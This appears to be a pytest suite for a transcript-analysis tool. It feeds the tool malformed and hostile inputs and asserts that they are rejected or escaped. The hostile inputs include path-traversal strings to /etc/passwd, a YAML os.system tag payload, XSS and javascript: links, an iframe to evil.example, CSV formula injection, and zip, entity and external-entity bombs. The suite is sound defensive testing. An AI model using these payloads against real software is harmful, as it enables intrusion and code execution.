    Case("json/newer-schema.json", write(json_bytes(mini_json(schema="voiceofbuyer.transcript/9"))), READ),
    Case("json/wrong-schema.json", write(json_bytes(mini_json(schema=7) | {"turns": "none"})), S, r"schema"),
    # JSON: services' shapes with wrong types inside
    Case("json/assemblyai-bad-utterances.json", write('{"utterances": [1, "two", null]}'), S, r"not a transcript|"
         r"utterances|turns"),
    Case("json/amazon-bad-items.json", write('{"results": {"items": [1, 2, 3]}}'), S, r"not a transcript|items"),
    Case("json/deepgram-words-string.json",
         write('{"results": {"utterances": [{"speaker": 0, "transcript": "hi there", "words": "hi there"}]}}'), S,
         r"not a transcript|words"),
    Case("json/deepgram-channel-words-bad.json",
         write('{"results": {"channels": [{"alternatives": [{"words": [1, 2]}]}]}}'), S, r"not a transcript|words"),
    Case("json/rev-monologue-string.json", write('{"monologues": ["hello", "there"]}'), S,
         r"not a transcript|monologues"),
    Case("json/fireflies-text-number.json", write('{"sentences": [{"speaker_name": "Alex", "text": 12}]}'), S,
         r"not a transcript|text"),
    Case("json/segments-speaker-object.json",
         write('[{"speaker": {"id": 1}, "text": "We pay late."}, {"speaker": "Sam", "text": "Why?"}]'), S,
         r"not a transcript: .* a speaker must be a name"),
    # JSON: a recording path outside the batch folder is never linked
    Case("json/source-outside.json", write(json_bytes(mini_json(source="../../../../etc/passwd"))), READ_WARNED,
         r"recording it names \(\.\./\.\./\.\./\.\./etc/passwd\) is outside the batch folder: not linked"),
    Case("json/source-absolute.json", write(json_bytes(mini_json(source="/etc/passwd"))), READ_WARNED,
         r"recording it names \(/etc/passwd\) is outside the batch folder: not linked"),
    Case("json/source-url.json", write(json_bytes(mini_json(source="javascript:alert(1)"))), READ),
    # WebVTT. One unreadable timing loses no words: the file is read, that cue at the time of the one before, with a
    # warning naming its line (a whole call was skipped for one slip before); mostly unreadable timings skip it.
    Case("vtt/no-header.vtt", write(mini_vtt().removeprefix("WEBVTT\n")), S, r"WEBVTT"),
    Case("vtt/header-only.vtt", write("WEBVTT\n\n"), S, NO_CUE),
    Case("vtt/bad-timecode.vtt", write(mini_vtt().replace("00:00:05.000 -->", "00:00:xx.000 -->")),
         READ_WARNED, r"(?:malformed cue timing|expected a cue timing).*; its words are read"),
    Case("vtt/no-arrow.vtt", write(mini_vtt().replace(" --> ", " ")), S, r"cue timing"),
    Case("vtt/minutes-over-59.vtt", write(mini_vtt().replace("00:00:05.000 -->", "00:99:05.000 -->")),
         READ_WARNED, r"(?:is no time \(minutes or seconds over 59\)).*; its words are read"),
    # An end before its start (a slip): the cue ends as it starts, and the file is read.
    Case("vtt/end-before-start.vtt", write(mini_vtt().replace("00:00:05.000 --> 00:00:09.000",
                                                              "00:00:05.000 --> 00:00:01.000")), READ),
    Case("vtt/arrow-only.vtt", write("WEBVTT\n\n-->\nSam Rivera: hello\n"), S, r"malformed cue timing"),
    Case("vtt/huge-hours.vtt", write(mini_vtt().replace("00:00:05.000", "99999999999999999999:00:05.000")),
         READ_WARNED, r"(?::\d+: cue time out of range).*; its words are read"),
    Case("vtt/overflow-hours.vtt", write(mini_vtt().replace("00:00:05.000", "9" * 400 + ":00:05.000")),
         READ_WARNED, r"(?::\d+: cue time out of range).*; its words are read"),
    Case("vtt/no-words.vtt", write("WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n"), S, NO_CUE),
    Case("vtt/timing-lines-only.vtt", write("WEBVTT\n\n" + "00:00:01.000 --> 00:00:02.000\n\n" * 5), S, NO_CUE),
    Case("vtt/unclosed-voice.vtt", write("WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Sam Rivera hello there\n"),
         S, NO_LABELS),
    Case("vtt/end-before-start.vtt", write(mini_vtt().replace("00:00:04.000", "00:00:00.500")), READ),
    # SubRip
    Case("srt/bad-timecode.srt", write(mini_srt().replace("00:00:05,000 -->", "00:0x:05,000 -->")),
         READ_WARNED, r"(?:malformed cue timing).*; its words are read"),
    Case("srt/negative-time.srt", write(mini_srt().replace("00:00:05,000 -->", "-00:00:05,000 -->")),
         READ_WARNED, r"(?:malformed cue timing).*; its words are read"),
    Case("srt/no-timing.srt", write(TEXT), S, r"expected a cue timing"),
    Case("srt/numbers-only.srt", write("1\n\n2\n\n3\n"), S, r"expected a cue timing|no speaker labels"),
    Case("srt/huge-hours.srt", write(mini_srt().replace("00:00:05,000", "99999999999999999999:00:05,000")),
         READ_WARNED, r"(?::\d+: cue time out of range).*; its words are read"),
    Case("srt/overflow-hours.srt", write(mini_srt().replace("00:00:05,000", "9" * 400 + ":00:05,000")),
         READ_WARNED, r"(?::\d+: cue time out of range).*; its words are read"),
    Case("srt/huge-minutes.srt", write(mini_srt().replace("00:00:05,000", "00:" + "9" * 5000 + ":05,000")),
         READ_WARNED, r"(?:cue timing|cue time out of range).*; its words are read"),
    Case("srt/second-cue-broken.srt", write(mini_srt().replace("00:00:09,000", "00:00:09;000")),
         READ_WARNED, r"(?::\d+: malformed cue timing).*; its words are read"),
    # Word files
    Case("docx/not-word.docx", write(zip_bytes({"hello.txt": b"Sam: hi\nAlex: hello\n"})), S, NOT_DOCX),
    Case("docx/truncated.docx", write(make_docx([f"{s}: {t}" for s, t in MINI])[:2000]), S, NOT_DOCX),
    Case("docx/garbage.docx", write(garbage(5000, 12)), S, NOT_DOCX),
    Case("docx/encrypted.docx", write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + garbage(5000, 13)), S, NOT_DOCX),
    Case("docx/spreadsheet.docx",
         write(zip_bytes({"[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.'
                          b'org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="'
                          b'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
                          "xl/workbook.xml": b"<workbook/>"})), S, NOT_DOCX),
    Case("docx/broken-xml.docx", write(docx_with_document_xml(b"<w:document><w:body><w:p>unclosed")), S, NOT_DOCX),
    Case("docx/zip-bomb.docx", write(lambda _: docx_with_document_xml(b"<" + b" " * 60_000_000)), S,
         r"unpacks to \d+ MB"),
    Case("docx/many-parts.docx", write(zip_bytes({f"word/media/{n}.xml": b"" for n in range(3000)})), S,
         r"in 3,000 parts"),
    Case("docx/corrupt-deflate.docx", write(corrupt_deflate), S, NOT_DOCX),
    Case("docx/entity-bomb.docx", write(docx_with_document_xml(XML_BOMB)), S, NOT_DOCX),
    Case("docx/external-entity.docx", write(external_entity), READ),
    Case("docx/no-paragraphs.docx", write(make_docx([])), S, EMPTY),
    # PDF exports (Otter's, Rev's): damaged, truncated, password-protected, or a scan without a text layer
    Case("pdf/garbage.pdf", write(b"%PDF-1.7\n" + garbage(5000, 14)), S, NOT_PDF),
    Case("pdf/truncated.pdf", write(PDF_EXPORT.read_bytes()[:3000]), S, NOT_PDF),
    Case("pdf/scan.pdf", write(lambda _: pdf_bytes()), S, r"no text layer .*\(fix: .*OCR"),
    Case("pdf/locked.pdf", write(lambda _: pdf_bytes(PDF_EXPORT, password="secret")), S, r"password-protected"),
    Case("pdf/owner-password-only.pdf", write(lambda _: pdf_bytes(PDF_EXPORT, password="")), READ),
    # AES-256, as Acrobat and Word encrypt by default (tester 55: refused as "not readable", cryptography missing)
    Case("pdf/aes-owner-password-only.pdf", write(lambda _: pdf_bytes(OTTER_PDF, "", "AES-256")), READ),
    Case("pdf/aes-locked.pdf", write(lambda _: pdf_bytes(PDF_EXPORT, "secret", "AES-256")), S, r"password-protected"),
    Case("docx/no-labels.docx", write(make_docx(["We pay late.", "Nobody approves."])), S, NO_LABELS),
    Case("docx/good-but-odd-case.DOCX", write(make_docx([f"{s}: {t}" for s, t in MINI])), READ),
    # sidecar metadata
    Case("meta/alias-bomb.txt", with_sidecar(YAML_BOMB), S, r"YAML aliases", named="meta/alias-bomb.yaml"),
    Case("meta/huge-sidecar.txt", with_sidecar("interviewee: Alex Kim\nnotes: " + "x" * 400_000 + "\n"), S,
         r"too large", named="meta/huge-sidecar.yaml"),
    Case("meta/list-sidecar.txt", with_sidecar("- interviewee: Alex Kim\n- title: CFO\n"), S,
         r"not a set of 'key: value' lines", named="meta/list-sidecar.yaml"),
    Case("meta/scalar-sidecar.txt", with_sidecar("just some words\n"), S, r"not a set of 'key: value' lines",
         named="meta/scalar-sidecar.yaml"),
    Case("meta/binary-sidecar.txt", with_sidecar(garbage(3000, 14)), S, NOT_TEXT, named="meta/binary-sidecar.yaml"),
    Case("meta/nested-sidecar.txt", with_sidecar("interviewee: Alex Kim\ncompany:\n  name: Acme\n"), S,
         r"nested mapping", named="meta/nested-sidecar.yaml"),
    Case("meta/python-tag-sidecar.txt", with_sidecar('title: !!python/object/apply:os.system ["echo pwned"]\n'), S,
         r"malformed YAML", named="meta/python-tag-sidecar.yaml"),
    Case("meta/bad-date-sidecar.txt", with_sidecar("interviewee: Alex Kim\ndate: 2026-13-45\n"), READ),
    Case("meta/deep-sidecar.txt", with_sidecar("title: " + "[" * 20_000 + "]" * 20_000 + "\n"), S,
         r"nested more than \d+ levels", named="meta/deep-sidecar.yaml"),
    Case("meta/malformed-sidecar.txt", with_sidecar("title: [unclosed\ncompany: Acme\n"), S, r"malformed YAML",
         named="meta/malformed-sidecar.yaml"),
    Case("meta/orphan.yaml", write("interviewee: Nobody\n"), W, r"no transcript of the same name"),
    Case("meta/interviewee-nobody.txt", with_sidecar(TITLED + "interviewee: Nobody Here\n"), READ_WARNED,
         r"metadata names the interviewee 'Nobody Here', but no speaker is them \(speakers: Sam Rivera, Alex Kim\)"),
    Case("meta/alias-front-matter.md", write("---\n" + YAML_BOMB + "---\n" + TEXT), S, r"YAML aliases"),
    Case("meta/unclosed-front-matter.md", write("---\ninterviewee: Alex Kim\n" + TEXT), S, r"not closed"),
    Case("meta/list-front-matter.md", write("---\n- a\n- b\n---\n" + TEXT), S, r"not a set of 'key: value' lines"),
    # links and special files
    Case("links/dangling.txt", link("no-such-file.txt"), S, r"link to a file that does not exist"),
    Case("links/outside.txt", link("secret.txt", outside=True), S, r"outside the batch folder"),
    Case("links/outside-folder", link(".", outside=True), S, r"folder outside the batch folder"),
    Case("links/loop-a.txt", link("loop-b.txt"), S, r"link"),
    Case("links/loop-b.txt", link("loop-a.txt"), S, r"link"),
    Case("links/self.txt", link("self.txt"), S, r"link"),
    Case("links/to-good.txt", link("../northwind-cfo.txt"), W,
         r"link to northwind-cfo\.txt, which is read where it is: read once"),
    Case("links/to-parent-folder", link(".."), IGNORED),
    Case("special/pipe.txt", fifo, S, r"not a regular file"),
    # permissions
    Case("perm/unreadable.txt", unreadable_file, S, r"cannot read the file", needs="unreadable"),
    Case("perm/locked", unreadable_folder, S, r"folder cannot be read", needs="unreadable"),
    Case("perm/unreadable-sidecar.txt", unreadable_sidecar, S, r"metadata file cannot be read",
         named="perm/unreadable-sidecar.yaml", needs="unreadable"),
    # roles from metadata that make bad file names
    Case("roles/long-role.txt", with_sidecar("role: Head of " + "Very " * 60 + "Long Things\n"), READ),
    Case("roles/symbols-role.txt", with_sidecar('role: "!!! ???"\n'), READ),
    Case("roles/path-role.txt", with_sidecar('role: "../../../etc/passwd"\n'), READ),
    Case("roles/dots-role.txt", with_sidecar('role: ".."\n'), READ),
    Case("roles/colliding-role.txt", with_sidecar('role: "Evil Role"\n'), READ),
    # odd but readable
    Case("odd/monologue.txt", write("Alex Kim: " + " ".join(t for _, t in MINI[1::2]) + "\n"), READ),
    # Only voices the transcriber could not name: nobody's words, so no buyer's: left out, in one line.
    Case("odd/unknown-speakers.txt",
         with_sidecar(TITLED, "UNKNOWN: We pay late.\nSpeaker ?: Nobody approves anything.\n" * 3),
         S, r"no buyer speaks in it, only UNKNOWN, Speaker \?"),
    Case("odd/french.txt", with_sidecar(TITLED, "Sam Rivera: Quel est votre rôle ?\nAlex Kim: Je suis contrôleur de "
                                        "gestion, et nous payons les fournisseurs en retard chaque mois.\n" * 3),
         "skipped", r"in language 'fr', not English: left out"),
    Case("odd/emoji.txt", with_sidecar(TITLED, "Sam Rivera: 🙂 what hurts?\nAlex Kim: 💸💸 invoices 🚀 late 😩.\n" * 3),
         READ),
    Case("odd/zalgo.txt", with_sidecar(TITLED, mini_text().replace("e", "e\u0301\u0316\u0317")), READ),
    *(Case(f"odd/{name}.txt", write(mini_text(with_buyer(buyer))), READ) for name, buyer in NAMES_WITH_MARKS.items()),
    Case("odd/bidi.txt", write(mini_text().replace("ERP", "\u202eERP\u202c")), READ),
    Case("odd/many-turns.txt",
         with_sidecar(TITLED, "Sam Rivera: And then?\nAlex Kim: We wait for approval again.\n" * 1500), READ),
    # what is not an interview, said or unsaid
    Case("other/notes.pdf", write(b"%PDF-1.4\n" + garbage(1000, 15)), S, NOT_PDF),
    Case("other/no-extension", write(TEXT), S, r"unknown format \(no extension\)"),
    Case("other/UPPER.TXT", write(TEXT.replace("Thanks for joining", "Thanks for joining us")), READ),
    # The same file twice (copied into a subfolder): read once, the copy named on a line.
    Case("dup/copies/b.txt", twice(TEXT.replace("Thanks for joining", "Thanks for coming")), S,
         r"a copy of dup/copies/a\.txt \(the same bytes and metadata\): read once \(fix: remove one of the copies\)"),
    Case("other/.hidden.txt", write(TEXT), IGNORED),
    Case("other/~$lock.docx", write(garbage(162, 16)), IGNORED),
    Case("other/README.md", write("# About this batch\n"), IGNORED),
    Case("other/desktop.ini", write("[.ShellClassInfo]\nIconResource=C:\\x.ico\n"), IGNORED),
    Case("other/Thumbs.db", write(garbage(512, 18)), IGNORED),
    Case("dup/same.md", write(TEXT), READ),
    # the same words in another format (Whisper's .txt beside its .srt): one call, a note; other words: another
    # interview, read under its file's whole name (tester Y-09)
    Case("dup/same.txt", write(TEXT), W, r"same name as dup/same\.md: .*the same call's words in another format"),
    Case("dup/other.md", write(mini_text(extra="Sam Rivera: Thanks, that's all.\n")), READ),
    Case("dup/other.txt", write("Nina Ross: What's your job there?\nBronwen Price: Fleet manager, forty-two tractor "
                                "units.\nNina Ross: What goes wrong?\nBronwen Price: Tachograph infringements, "
                                "mostly missed breaks.\n"), W,
         r"same name as dup/other\.md but other words: read as another interview, 'dup/other\.txt'"),
    # the tool's own files
    Case("voiceofbuyer.sqlite.damaged-20260101T000000", write(garbage(4096, 17)), IGNORED),
    Case("voiceofbuyer-error.log", write("Traceback (most recent call last):\n"), IGNORED),
    Case("old-outputs", old_output_folder, W, r"output folder of a voiceofbuyer run: not read as interviews"),
)
# fmt: on
CASE_IDS = [case.path for case in CASES]

HOSTILE_JSON = "-hostile.json"
"""A good transcript whose names and metadata attack every output: a file name, role, company and speaker that start
like spreadsheet formulas, HTML and Markdown links in the metadata, template syntax."""
HOSTILE_TURNS = (
    ("Sam Rivera", "What would stop you from buying a tool like ours?"),
    ("+Pat Mallory", "My biggest worry is the price: I don't trust per-invoice pricing at our volume."),
    ("Sam Rivera", "What else concerns you?"),
    ("+Pat Mallory", "I'm worried the integration with our ERP will break and my team will lose a month."),
    ("Sam Rivera", "Anything else?"),
    ("+Pat Mallory", "Security review is a hurdle: our IT team will block anything that stores bank details."),
)
HOSTILE_META = {
    "interviewee": "+Pat Mallory",
    "role": "@Evil Role",
    "title": "<img src=x onerror=alert(1)> CFO",
    "company": FORMULA_COMPANY,
    "industry": "[click me](javascript:alert(1))",
    "region": "{{ 7 * 7 }} <b>bold</b>",
    "interviewer": "Sam Rivera",
}
MANIFEST = (
    "file,interviewee,title,role,company,industry,region,date,interviewer\n"
    f'northwind-cfo.txt,Dana Whitfield,Chief Financial Officer,,"{HOSTILE_COMPANY.replace(chr(34), chr(34) * 2)}",'
    "Logistics,<iframe src=//evil.example>,2026-09-02,Sam Rivera\n"
    "pinecrest-cfo.vtt,Raj Patel,CFO,,Pinecrest,SaaS,North America,2026-09-17,Sam Rivera,extra,cells,here\n"
    "gone.txt,Nobody,CFO,,Gone Inc,,,,\n"
    "northwind-cfo.txt,Someone Else,Janitor,,Elsewhere,,,,\n"
    ",Nobody,CFO,,Nowhere,,,,\n"
    "enc/utf16-bom.txt,Alex Kim,Controller,,Utf Sixteen Ltd,,,,Sam Rivera\n"
)
MANIFEST_CASES = (
    ("row-too-long", r"interviews\.csv:3: row has 12 values but the header has 9; row left out"),
    ("row-for-missing-file", r"interviews\.csv:4: row for 'gone\.txt' matches no file"),
    ("row-listed-twice", r"interviews\.csv:5: northwind-cfo\.txt is listed twice"),
    ("row-without-file", r"interviews\.csv:6: row has no 'file' value"),
)
SUMMARY = re.compile(r"(?P<verdict>skipped|warning): (?P<message>.*)")


@dataclass
class Outcome:
    code: int
    out: str
    err: str
    folder: Path
    """The output folder."""

    @property
    def screen(self) -> str:
        return self.out + self.err

    def document(self) -> dict:
        return json.loads((self.folder / "voiceofbuyer.json").read_text("utf-8"))

    def interview_ids(self) -> set[str]:
        return {interview["id"] for interview in self.document()["interviews"]}

    def lines_naming(self, name: str) -> list[str]:
        """The summary lines (skipped/warning) about ``name``: the message starts with it."""
        return [
            line for line in self.screen.splitlines()
            if (match := SUMMARY.match(line)) and re.match(rf"{re.escape(name)}(?::\d+)?: ", match["message"])
        ]  # fmt: skip


def invoke(*argv: str | Path) -> tuple[int, str, str]:
    """``voiceofbuyer ARGV`` in this process: (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main([str(arg) for arg in argv])
    return code, out.getvalue(), err.getvalue()


def run_batch(batch: Path, out: Path, *options: str) -> Outcome:
    code, stdout, stderr = invoke("run", batch, "--out", out, "--quiet", *options)
    return Outcome(code, stdout, stderr, out)


def can_make_unreadable(folder: Path) -> bool:
    """False where chmod cannot take read access away (running as root)."""
    probe = folder / ".probe"
    probe.write_text("x")
    probe.chmod(0)
    try:
        return not os.access(probe, os.R_OK)
    finally:
        probe.chmod(0o600)
        probe.unlink()


def documents_of(out: Path) -> dict[str, bytes]:
    """What a reader of the output folder sees (links followed), without the store and hidden work files."""
    found = {}
    for folder, subfolders, names in os.walk(out, followlinks=True):
        subfolders[:] = [name for name in subfolders if not name.startswith((".", "voiceofbuyer.sqlite"))]
        for name in names:
            path = Path(folder) / name
            if not name.startswith((".", "voiceofbuyer.sqlite")):
                found[str(path.relative_to(out))] = path.read_bytes()
    return dict(sorted(found.items()))


def all_output_text(out: Path) -> str:
    return "\n".join(data.decode("utf-8", "replace") for data in documents_of(out).values())


@dataclass
class Shared:
    batch: Path
    first: Outcome
    second: Outcome
    unreadable: bool


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Shared:
    """The shared batch, run twice with the output folder inside it (the second run must not read the first's
    documents), restoring permissions afterwards so the temporary folder can be removed."""
    root = tmp_path_factory.mktemp("bad-inputs")
    batch = root / "batch"
    batch.mkdir()
    (root / "outside").mkdir()
    (root / "outside" / "secret.txt").write_text(mini_text(extra=f"Alex Kim: {SECRET}\n"))
    for name in GOOD:
        shutil.copy(SAMPLE / name, batch / name)
    shutil.copy(SAMPLE / "voiceofbuyer.toml", batch / "voiceofbuyer.toml")  # the batch's config: used, not skipped
    (batch / "interviews.csv").write_text(MANIFEST, "utf-8")
    (batch / HOSTILE_JSON).write_text(json.dumps(mini_json(HOSTILE_TURNS, metadata=HOSTILE_META)), "utf-8")
    for case in CASES:
        case.make(batch, batch / case.path)
    unreadable = can_make_unreadable(root)
    out = batch / "outputs"
    try:
        first = run_batch(batch, out)
        second = run_batch(batch, out)
    finally:
        for case in CASES:
            if case.needs == "unreadable":
                for path in (batch / case.path, (batch / case.path).with_suffix(".yaml")):
                    if path.exists():
                        path.chmod(0o700)
    return Shared(batch, first, second, unreadable)


# -- the shared batch: one line per file, the right verdict, the rest written -------------------------------------
ONE_LINE = re.compile(r"^(?:skipped|warning): \S.* \(fix: .+\)$")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("case", CASES, ids=CASE_IDS)
def test_each_bad_file_gets_its_verdict_in_one_line_and_the_rest_is_written(case: Case, shared: Shared) -> None:
    if case.needs == "unreadable" and not shared.unreadable:
        pytest.skip("chmod cannot take read access away here (running as root): os.access still reads it")
    outcome = shared.first
    assert outcome.code == 1, outcome.err
    assert "Traceback" not in outcome.screen
    ids = outcome.interview_ids()
    assert set(GOOD_IDS) <= ids, "the good transcripts beside the bad files are written"
    interview_id = str(PurePosixPath(case.path).with_suffix(""))
    lines = outcome.lines_naming(case.named or case.path)
    for line in lines:
        assert ONE_LINE.match(line), line
    if case.verdict == READ:
        assert interview_id in ids
        assert not [line for line in lines if line.startswith("skipped")], lines
    elif case.verdict == READ_WARNED:
        assert interview_id in ids
        assert len(lines) == 1 and lines[0].startswith("warning: ") and re.search(case.pattern, lines[0]), lines
    elif case.verdict == IGNORED:
        assert not lines and case.path not in outcome.screen, "ignored files are documented: no line about them"
        assert not {i for i in ids if i == interview_id or i.startswith(f"{case.path}/")}
    elif case.verdict == NOT_READ:
        assert not {i for i in ids if i == interview_id or i.startswith(f"{case.path}/")}
    else:
        assert len(lines) == 1, f"exactly one line names {case.named or case.path}: {lines}"
        line = lines[0]
        assert line.startswith(f"{case.verdict}: "), line
        assert re.search(case.pattern, line), line
        if "same name as" not in case.pattern:  # the other file of that name is read
            assert not {i for i in ids if i == interview_id or i.startswith(f"{case.path}/")}


def test_the_summary_counts_every_skipped_file_and_prints_nothing_else_on_error(shared: Shared) -> None:
    outcome = shared.first
    skipped = [line for line in outcome.out.splitlines() if line.startswith("skipped: ")]
    assert f"{len(skipped)} files skipped" in outcome.out
    assert outcome.err == ""


def test_a_second_run_with_the_output_folder_inside_the_batch_reads_the_same_files(shared: Shared) -> None:
    first, second = shared.first, shared.second
    assert second.code == 1 and "Traceback" not in second.screen
    assert second.interview_ids() == first.interview_ids()
    assert not [i for i in second.interview_ids() if i.startswith("outputs/")]
    problems = [line for line in first.out.splitlines() if SUMMARY.match(line)]
    assert [line for line in second.out.splitlines() if SUMMARY.match(line)] == problems
    assert "outputs/" not in "\n".join(problems)


def test_the_config_in_the_batch_folder_is_used_not_skipped(shared: Shared) -> None:
    assert not shared.first.lines_naming("voiceofbuyer.toml")
    assert "Finance Leader" in {p["role"] for p in shared.first.document()["personas"]}, "the sample taxonomy"


@pytest.mark.parametrize(("name", "pattern"), MANIFEST_CASES, ids=[name for name, _ in MANIFEST_CASES])
def test_a_bad_manifest_row_is_one_line_and_the_other_rows_still_apply(name: str, pattern: str, shared: Shared):
    lines = [line for line in shared.first.lines_naming("interviews.csv") if re.search(pattern, line)]
    assert len(lines) == 1 and lines[0].startswith("warning: ") and ONE_LINE.match(lines[0]), lines
    meta = {i["id"]: i["metadata"] for i in shared.first.document()["interviews"]}
    assert meta["northwind-cfo"]["company"] == HOSTILE_COMPANY  # the row before the bad ones
    assert meta["enc/utf16-bom"]["company"] == "Utf Sixteen Ltd"  # the row after them
    assert meta["pinecrest-cfo"]["company"] == "Pinecrest Software"  # its bad row left out: the sidecar's


@pytest.mark.parametrize("name", list(NAMES_WITH_MARKS))
def test_a_name_with_combining_marks_is_a_speaker_not_part_of_the_previous_turn(name: str, shared: Shared) -> None:
    speakers = {i["id"]: i["speakers"] for i in shared.first.document()["interviews"]}
    assert speakers[f"odd/{name}"]["buyers"] == [NAMES_WITH_MARKS[name]]
    assert speakers[f"odd/{name}"]["interviewers"] == ["Sam Rivera"]


def test_a_date_that_is_no_date_is_kept_as_written(shared: Shared) -> None:
    meta = {i["id"]: i["metadata"] for i in shared.first.document()["interviews"]}
    assert meta["meta/bad-date-sidecar"]["date"] == "2026-13-45"


def test_a_recording_outside_the_batch_is_never_linked(shared: Shared) -> None:
    media = {i["id"]: i["media"] for i in shared.first.document()["interviews"]}
    assert media["json/source-outside"] == media["json/source-absolute"] == ""
    pages = all_output_text(shared.first.folder)
    assert not re.search(r'(?:href|src)="[^"]*(?:etc/passwd|javascript:)', pages)


def test_nothing_outside_the_batch_or_in_the_tools_own_files_reaches_an_output(shared: Shared) -> None:
    assert SECRET not in all_output_text(shared.first.folder)
    assert SECRET.encode() not in (shared.first.folder / "voiceofbuyer.sqlite").read_bytes()


def test_no_control_character_reaches_an_output(shared: Shared) -> None:
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", all_output_text(shared.first.folder))


HTML_ATTACKS = ("<script>alert", "<img src=x", "<iframe", "<b>bold", 'href="javascript:')


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_escapes_what_it_did_not_write(attack: str, shared: Shared) -> None:
    pages = {p.name: p.read_text("utf-8") for p in shared.first.folder.rglob("*.html")}
    assert pages and not [name for name, page in pages.items() if attack in page]
    assert "&lt;script&gt;alert(&#34;pwned&#34;)&lt;/script&gt;" in pages["finance-leader.html"]


MARKDOWN_ATTACKS = ("<script", "<img", "<iframe", "<b>", r"(?<!\\)\]\(javascript:", r"(?<!\\)\[click me")
"""Raw HTML, and a link (a bracket not escaped by a backslash)."""


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_neutralises_html_and_links_it_did_not_write(attack: str, shared: Shared) -> None:
    documents = {p.name: p.read_text("utf-8") for p in (shared.first.folder / "personas").glob("*.md")}
    assert {"finance-leader.md", "evil-role.md"} <= set(documents)
    assert not [name for name, text in documents.items() if re.search(attack, text)]
    assert "\\[click me\\](javascript:alert(1))" in documents["evil-role.md"], "shown as the text it is"
    assert '&lt;script>alert("pwned")&lt;/script> Northwind Freight' in documents["finance-leader.md"]
    assert "{{ 7 * 7 }}" in documents["evil-role.md"], "template syntax in metadata is text"


def test_the_objections_command_neutralises_markdown_too(shared: Shared) -> None:
    code, out, err = invoke("objections", "--out", shared.first.folder, "--role", "@Evil Role", "--format", "md")
    assert code == 0 and err == ""
    assert "<img" not in out and "## @Evil Role" in out and "&lt;img src=x onerror=alert(1)> CFO" in out


@pytest.mark.parametrize("column", ["role", "interview_ids", "company_names", "citation"])
def test_csv_cells_that_start_like_a_formula_are_neutralised(column: str, shared: Shared) -> None:
    raw = (shared.first.folder / "objections.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    hostile = [row for row in rows if row["role"] == "'@Evil Role"]
    assert hostile, "the hostile interview's objections are in the list"
    assert {row[column][:2] for row in hostile} == {"'" + {"role": "@", "interview_ids": "-", "company_names": "=",
                                                          "citation": "+"}[column]}  # fmt: skip
    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]


# -- runs of their own: nothing readable, broken manifests, unusable stores ---------------------------------------
def copy_outputs(shared: Shared, target: Path) -> Path:
    """A copy of the shared run's output folder (links kept), as the previous results a failing run must keep."""
    shutil.copytree(shared.first.folder, target, symlinks=True)
    return target


def listing(out: Path) -> tuple[int, str, str]:
    """What ``voiceofbuyer personas`` says about the last run in ``out``."""
    return invoke("personas", "--out", out)


def assert_one_error_line(outcome: Outcome | tuple[int, str, str], *named: str) -> str:
    """Exit code 2, no traceback, and one ``error:`` line naming ``named``, that never advises deleting anything."""
    code, out, err = (outcome.code, outcome.out, outcome.err) if isinstance(outcome, Outcome) else outcome
    assert code == 2, out + err
    assert "Traceback" not in out + err
    errors = [line for line in err.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, err
    for name in named:
        assert name in errors[0], errors[0]
    assert not re.search(r"\b(delete|rm|erase|wipe)\b", errors[0], re.IGNORECASE), errors[0]
    return errors[0]


def dangling(root: Path, path: Path) -> None:
    link("gone.txt")(root, path)


# fmt: off
BAD_BATCHES: dict[str, dict[str, Maker]] = {
    "empty": {},
    "only-ignored-files": {".hidden.txt": write(TEXT), "README.md": write("# notes\n"), "~$call.docx": write(b"x"),
                           "voiceofbuyer.toml": write("[themes]\nquotes_per_theme = 3\n")},
    "all-bad": {
        "garbage.txt": write(garbage(2048, 20)), "empty.vtt": write(b""),
        "cut.json": write(json_bytes(mini_json())[:99]),
        "not-word.docx": write(zip_bytes({"a.txt": b"x"})), "nan.json": write(with_turn("start", "NaN")),
        "bomb.txt": with_sidecar(YAML_BOMB), "dangling.srt": dangling, "notes.pdf": write(b"%PDF-1.4"),
        "deep/er/still/blank.md": write("\n\n"), "loop.txt": link("loop.txt"),
    },
    "only-metadata": {"orphan.yaml": write("interviewee: Nobody\n"),
                      "interviews.csv": write("file,title\nnone.txt,CFO\n")},
}
EXPECTED_LINES = {
    "all-bad": ("garbage.txt", "empty.vtt", "cut.json", "not-word.docx", "nan.json", "bomb.yaml", "dangling.srt",
                "notes.pdf", "deep/er/still/blank.md", "loop.txt"),
    "only-metadata": ("orphan.yaml", "interviews.csv"),
}
# fmt: on


@pytest.mark.parametrize("name", list(BAD_BATCHES))
def test_a_batch_with_nothing_readable_writes_nothing_and_keeps_the_last_results(name: str, shared: Shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    before, listed = documents_of(out), listing(out)
    batch = tmp_path / name
    batch.mkdir()
    for path, make in BAD_BATCHES[name].items():
        make(batch, batch / path)
    outcome = run_batch(batch, out)
    assert_one_error_line(outcome, str(batch), "no readable interview", "previous results are untouched")
    for expected in EXPECTED_LINES.get(name, ()):
        lines = [line for line in outcome.err.splitlines() if line.split(": ", 2)[1:2] == [expected]
                 or line.startswith((f"skipped: {expected}:", f"warning: {expected}:"))]  # fmt: skip
        assert len(lines) == 1 and ONE_LINE.match(lines[0]), (expected, outcome.err)
    assert documents_of(out) == before, "the previous documents are byte-identical"
    assert listing(out) == listed, "the store's last run is still the previous one"
    assert not list(out.glob(".*.tmp")) and not list(out.glob(".documents/*.tmp"))


GOOD_MANIFEST_ROW = "northwind-cfo.txt,Dana Whitfield,Chief Financial Officer,Manifest Co\n"
MANIFEST_HEADER = "file,interviewee,title,company\n"
MANIFESTS: dict[str, tuple[bytes, int, str, str]] = {
